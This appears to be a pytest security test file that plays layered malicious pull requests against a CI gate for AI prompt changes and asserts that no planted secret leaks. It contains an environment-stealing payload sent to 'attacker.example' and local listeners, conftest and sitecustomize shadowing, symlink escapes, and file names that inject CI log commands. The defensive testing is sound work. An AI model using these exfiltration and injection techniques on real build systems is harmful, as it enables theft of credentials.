"""A whole attack by a pull request, as a build plays it: no key leaves, nothing outside the checkout is written, and
nothing but an approved change is green.

`tests/flows/test_pull_request_attacks.py` has each attack on the gate alone. Here the attacker has everything that a
commit can hold, and what the build prints tells which part to leave out of the next attempt.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import threading
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path
from typing import NamedTuple

import pytest

from support.closed_listener import close_listener
from support.command import CommandResult
from support.environments import linked_python
from support.gate_project import CHAT, CONFIG, Site, approved_site
from support.model_servers import model_server

SECRETS = {
    "OPENAI_API_KEY": "sk-planted-openai-0123456789abcdef",
    "ANTHROPIC_API_KEY": "planted-anthropic-0123456789abcdef",
    "AWS_SECRET_ACCESS_KEY": "planted-aws-0123456789abcdef",
    "TRACEFORGE_PROXY_TOKEN": "planted-token-0123456789abcdef",
}
# In the process of the tests: everything in the environment, to the attacker, by every way that is open.
THIEF = """
import json, os, pathlib, socket, subprocess
LOOT = json.dumps(dict(os.environ))
pathlib.Path("loot.json").write_text(LOOT)
for address in (("127.0.0.1", PORT), ("127.0.0.2", PORT), ("attacker.example", 443)):
    try:
        with socket.create_connection(address, timeout=2) as connection:
            connection.sendall(LOOT.encode())
    except OSError:
        pass
try:
    subprocess.run(["sh", "-c", "env > child-loot.txt"], check=False)
except OSError:
    pass
"""


class Attacker:
    """A listener that keeps what it gets."""

    def __init__(self) -> None:
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._listener.getsockname()[1]
        self.url = f"http://127.0.0.1:{self.port}"
        self.received = b""
        self._accepting = threading.Thread(target=self._accept, daemon=True)
        self._accepting.start()

    def _accept(self) -> None:
        with suppress(OSError):
            while True:
                connection, _ = self._listener.accept()
                with connection, suppress(OSError):
                    connection.settimeout(2)
                    while data := connection.recv(1 << 16):
                        self.received += data

    def close(self) -> None:
        close_listener(self._listener, self._accepting)


class Build(NamedTuple):
    """A checkout on a machine of a CI service, and what is beside it."""

    site: Site
    outside: Path
    attacker: Attacker
    secrets: dict[str, str]


@pytest.fixture(scope="module")
def recorded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """The project with approved calls that the flows of the gate use, too."""
    base = tmp_path_factory.getbasetemp()
    shared = base.parent if "PYTEST_XDIST_WORKER" in os.environ else base
    with approved_site(shared / "recorded", linked_python(tmp_path_factory.mktemp("python"))) as site:
        yield site


@pytest.fixture
def build(recorded: Site, tmp_path: Path) -> Iterator[Build]:
    """A clone on a branch for the pull request; beside it a home folder with a file to steal."""
    outside = tmp_path / "outside"
    (outside / "home").mkdir(parents=True)
    (outside / "home" / "credentials").write_text("planted-file")
    attacker = Attacker()
    with model_server(salt="another") as other:
        site = recorded.at(tmp_path / "checkout", other)
        git(site, "init", "-q", "-b", "main")
        git(site, "add", "-A", "-f")
        git(site, "commit", "-qm", "x")
        git(site, "checkout", "-qb", "pull-request")
        match_key = (recorded.folder / ".ai-tests" / "match.key").read_text().strip()
        yield Build(site, outside, attacker, {**SECRETS, "TRACEFORGE_MATCH_KEY": match_key})
    attacker.close()


def git(site: Site, *words: str) -> str:
    identity = ("-c", "user.name=a", "-c", "user.email=a@example.com")
    ran = subprocess.run(["git", *identity, *words], cwd=site.folder, check=True, capture_output=True, text=True)
    return ran.stdout.strip()


def play(build: Build) -> list[CommandResult]:
    """Check the merge out as GitHub does, and run the steps of our workflow, with all secrets of a build."""
    site = build.site
    git(site, "add", "-A", "-f")
    git(site, "commit", "-qm", "a friendly change", "--allow-empty")
    merge = git(site, "commit-tree", "HEAD^{tree}", "-p", "main", "-p", "HEAD", "-m", "merge")
    for entry in site.folder.iterdir():
        if entry.name != ".git":
            shutil.rmtree(entry) if entry.is_dir() and not entry.is_symlink() else entry.unlink()
    git(site, "checkout", "-qf", "--detach", merge)
    variables = {
        "CI": "true", "GITHUB_ACTIONS": "true", "GITHUB_EVENT_NAME": "pull_request",
        "GITHUB_REF": "refs/pull/1/merge", "GITHUB_SHA": merge,
        "HOME": str(build.outside / "home"), "XDG_STATE_HOME": str(build.outside / "state"),
    }  # fmt: skip
    before = list_tree(build.outside)
    ran = [site.run("verify", **variables, **build.secrets), site.test("-k", CHAT, **variables, **build.secrets)]
    assert before == list_tree(build.outside), "something outside of the checkout was written"
    printed = "".join(result.out + result.err for result in ran)
    stored = b"".join(
        path.read_bytes() for path in site.folder.rglob("*") if path.is_file() and not path.is_symlink()
    )
    for secret in (*build.secrets.values(), "planted-file"):
        assert secret not in printed
        assert secret.encode() not in stored
        assert secret.encode() not in build.attacker.received
    return ran


def list_tree(folder: Path) -> dict[str, bytes]:
    return {str(path): path.read_bytes() if path.is_file() else b"" for path in folder.rglob("*")}


Layer = Callable[[Build], object]


def redirect_providers(build: Build) -> None:
    """Every provider is at the attacker's address, nothing is a secret, and every test may be skipped."""
    url = build.attacker.url
    config = {
        **CONFIG, "upstreams": {"openai": f"{url}/v1", "corp-llm": url}, "allow": ["*"],
        "traces_dir": "../outside/home",
        "test": {"may_skip": ["*"], "may_vary": ["*test*"], "ignore_hosts": ["*"], "allow_ports": ["1-65535"]},
        "match": {"ignore_patterns": [".+"], "ignore_paths": ["$"]},
    }  # fmt: skip
    (build.site.folder / "traceforge.config.json").write_text(json.dumps(config))


def open_the_port(build: Build) -> None:
    """Valid settings only: the attacker's port is open, and its upstream is one of the project's own."""
    settings = {"test": {"allow_ports": [build.attacker.port], "seal_network": "off", "may_skip": ["four_*"]},
                "upstreams": {"corp-llm": build.attacker.url}}  # fmt: skip
    (build.site.folder / "traceforge.config.json").write_text(json.dumps({**CONFIG, **settings}))


def configure_twice(build: Build) -> None:
    (build.site.folder / "pyproject.toml").write_text(
        f'[tool.traceforge.upstreams]\nopenai = "{build.attacker.url}"\n'
    )


def bring_state(build: Build) -> None:
    """What belongs to one machine: a match key that the attacker knows, a journal, a pending change."""
    state = build.site.folder / ".ai-tests"
    shutil.rmtree(state, ignore_errors=True)
    (state / "pending").mkdir(parents=True)
    (state / "match.key").write_text("0" * 64)
    (state / "approve.journal").write_text("traceforge.journal/1 -\n")
    (state / "pending" / "x.json").write_text("{}")


def link_out(build: Build) -> None:
    """State and traces lead to the home folder of whoever runs the build."""
    folder, home = build.site.folder, build.outside / "home"
    shutil.rmtree(folder / ".ai-tests", ignore_errors=True)
    (folder / ".ai-tests").symlink_to(home)
    (folder / "wire").symlink_to(home)


def link_snapshots(build: Build) -> None:
    """A file of the home folder is a snapshot."""
    (build.site.folder / ".ai-snapshots" / "openai" / "stolen.json").symlink_to(
        build.outside / "home" / "credentials"
    )


def convert_snapshots(build: Build) -> None:
    (build.site.folder / ".gitattributes").write_text(".ai-snapshots/** text eol=crlf filter=evil\n*.json -diff\n")


def name_files(build: Build) -> None:
    """Names that a terminal, a log of a CI service or a shell could take for something else."""
    for name in (
        "::set-output name=x::y",
        "##vso[task.setvariable]x",
        "\x1b]52;c;eA==\x07",
        "-rf",
        "a\nb",
        "\u202egpj",
    ):
        (build.site.folder / f"{name}.json").write_text("{}")
        (build.site.folder / ".ai-snapshots" / "openai" / f"{name}.json").write_text("{}")


def steal(build: Build) -> None:
    """Code of the tests, which runs with everything that the build hands to it."""
    (build.site.folder / "conftest.py").write_text(THIEF.replace("PORT", str(build.attacker.port)))


def shadow(build: Build) -> None:
    """Modules of the checkout with the names of ours, and of Python's own."""
    for name in ("traceforge", "sitecustomize", "usercustomize"):
        (build.site.folder / f"{name}.py").write_text(THIEF.replace("PORT", str(build.attacker.port)))


def bring_variables(build: Build) -> None:
    (build.site.folder / ".env").write_text(
        f"OPENAI_BASE_URL={build.attacker.url}\nTRACEFORGE_UPSTREAM_OPENAI={build.attacker.url}\nCI=\n"
    )


EVERYTHING: tuple[Layer, ...] = (
    bring_variables, steal, redirect_providers, configure_twice, bring_state, link_snapshots, convert_snapshots,
    name_files,
)  # fmt: skip
# Each attempt leaves out what the build named last.
ATTEMPTS: dict[str, tuple[Layer, ...]] = {
    "everything": EVERYTHING,
    "links for state": (bring_variables, steal, redirect_providers, link_out),
    "without state": (bring_variables, steal, redirect_providers, link_snapshots, name_files),
    "valid settings": (bring_variables, steal, open_the_port, name_files),
    "the settings as approved": (bring_variables, steal, shadow, convert_snapshots),
    "only code": (steal, shadow),
}


@pytest.mark.slow
@pytest.mark.parametrize("name", ATTEMPTS)
def test_a_pull_request_with_a_changed_prompt_is_never_green(build: Build, name: str) -> None:
    """Whatever it brings beside it; and the build stays what it was."""
    build.site.edit("You are brief.", "You are evil.")
    for layer in ATTEMPTS[name]:
        layer(build)

    verified, tested = play(build)

    assert tested.code in (1, 3), tested
    assert "GREEN" not in tested.err
    if name not in ("the settings as approved", "only code"):
        assert verified.code in (1, 3), verified
    for line in (tested.out + tested.err + verified.out + verified.err).splitlines():
        assert not line.startswith(("::set-output", "##vso["))


@pytest.mark.slow
def test_code_that_steals_gets_no_key_from_a_green_build(build: Build) -> None:
    """Nothing is changed but a `conftest.py`: its build may be green, and there is nothing in it to steal."""
    steal(build)

    verified, tested = play(build)

    assert 0 == verified.code, verified
    assert (build.site.folder / "loot.json").exists(), tested
    loot = (build.site.folder / "loot.json").read_text() + (build.site.folder / "child-loot.txt").read_text()
    assert [] == [name for name, secret in build.secrets.items() if secret in loot]
